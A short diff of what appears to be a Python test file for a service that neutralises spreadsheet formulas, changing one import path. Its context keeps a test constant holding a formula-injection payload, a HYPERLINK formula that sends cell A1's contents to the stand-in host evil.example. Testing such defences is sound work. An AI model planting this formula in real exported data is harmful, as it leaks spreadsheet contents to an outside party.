@@ -21,7 +21,7 @@ from rdflib import Graph, Literal, URIRef
 from service.app import create_app
 from service.settings import Settings
 from service.spreadsheet import FORMULA_STARTS, neutralised, restored
-from service.store.factory import open_store
+from service.build import open_store
 
 AGREEMENT = "https://w3id.org/samverkan-kg/agreement/liu-norrkopings-kommun-2017"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
